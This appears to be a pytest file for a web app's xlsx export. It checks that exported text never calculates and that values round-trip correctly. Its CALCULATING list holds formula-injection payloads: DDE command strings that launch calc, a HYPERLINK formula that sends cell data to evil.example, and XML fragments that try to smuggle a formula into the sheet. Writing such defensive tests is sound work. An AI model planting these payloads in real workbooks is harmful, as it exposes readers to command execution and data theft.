"""Workbooks that are handed out: opened again by another reader, every text is there and nothing calculates (T11)."""

import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from types import SimpleNamespace

import pytest
from python_calamine import load_workbook
from xlsxwriter import Workbook

from app.base.workbooks.archive import examine
from app.web import workbooks
from tests.security.payloads import PAYLOADS
from tests.web.conftest import COUNT

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u00a0=")
CALCULATING = (
    *(f"{start}cmd|' /C calc'!A0" for start in STARTS),
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "{=1+1}",
    "https://evil.example",
    '<r></r></is></c><c r="B1"><f>1+1</f><v>2</v></c><c><is><r></r>',
    "<r><t>x</t></r>",
    "_x003D_1+1",
    "a\x1bb\x07",
)


def reread(content: bytes) -> list[list[object]]:
    with load_workbook(io.BytesIO(content)) as found:
        return found.get_sheet_by_index(0).to_python()


def parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def test_no_text_of_a_workbook_is_calculated():
    texts = [*PAYLOADS, *CALCULATING]
    content = workbooks.workbook(["Text", "Again"], [[text, text] for text in texts])
    assert reread(content) == [["Text", "Again"], *([text, text] for text in texts)]
    assert examine(content).formulas == 0
    sheet = parts(content)["xl/worksheets/sheet1.xml"]
    assert sheet.count('t="inlineStr"') == 2 * (1 + len(texts))
    assert "<f" not in sheet
    assert not [name for name in parts(content) if "rels" in name and "hyperlink" in parts(content)[name]]


def test_what_begins_like_a_formula_keeps_the_mark_of_a_text():
    sheet = workbooks.workbook(["A"], [["=1+1"], ["plain"]])
    style = re.findall(r'<c r="A(\d)"(?: s="(\d)")? t="inlineStr"', parts(sheet)["xl/worksheets/sheet1.xml"])
    formats = re.search(r"<cellXfs.*?</cellXfs>", parts(sheet)["xl/styles.xml"], re.DOTALL)[0]
    marked = [at for at, one in enumerate(re.findall(r"<xf [^>]*>", formats)) if 'quotePrefix="1"' in one]
    assert [(number, int(one or 0) in marked) for number, one in style] == [("1", False), ("2", True), ("3", False)]


def test_a_formula_would_be_seen():
    """The control for the eyes above: a cell written the usual way calculates."""
    target = io.BytesIO()
    with Workbook(target) as made:
        made.add_worksheet().write(0, 0, "=1+1")
    assert examine(target.getvalue()).formulas == 1


def test_values_keep_all_that_they_say():
    person = SimpleNamespace(name="Ada Miller", username="ada.miller")
    moment = datetime(2026, 11, 22, 9, 5, tzinfo=UTC)
    values = [-5, Decimal("0.10"), Decimal("1234567890.123456789"), 2**60, True, None, date(2026, 11, 30)]
    content = workbooks.workbook(["x"] * 10, [[*values, moment, ["a", "b"], person], [date(1899, 1, 1)]])
    first, second = reread(content)[1:]
    assert first[:5] == [-5.0, 0.1, "1234567890.123456789", str(2**60), "yes"]
    assert first[5:] == ["", date(2026, 11, 30), "2026-11-22T09:05:00.000Z", "a; b", "Ada Miller (ada.miller)"]
    assert second[0] == "1899-01-01"


def test_what_does_not_fit_says_so(monkeypatch):
    text = reread(workbooks.workbook(["A"], [["x" * 40_000]]))[1][0]
    assert len(text) == workbooks.LONGEST_TEXT
    assert text.endswith("the CSV has all of it")
    monkeypatch.setattr(workbooks, "MOST_ROWS", 2)
    with pytest.raises(workbooks.WorkbookTooLong, match="Export it as CSV"):
        workbooks.workbook(["A"], [["x"]] * 3)


def test_a_list_is_handed_out_as_workbook(client, samples):
    page = client.get("/workshop/samples?state=draft&sort=-title").text
    assert 'href="?state=draft&amp;sort=-title&amp;format=xlsx"' in page
    answer = client.get("/workshop/samples?format=xlsx&state=draft&sort=-title")
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="workshop-samples.xlsx"')
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert client.queries == 1
    rows = reread(answer.data)
    assert rows[0] == ["Number", "Name", "State", "Due", "Version"]
    assert len(rows) == 1 + COUNT // 3
    assert {type(row[3]) for row in rows[1:]} <= {date, str}
    assert {type(row[4]) for row in rows[1:]} == {float}
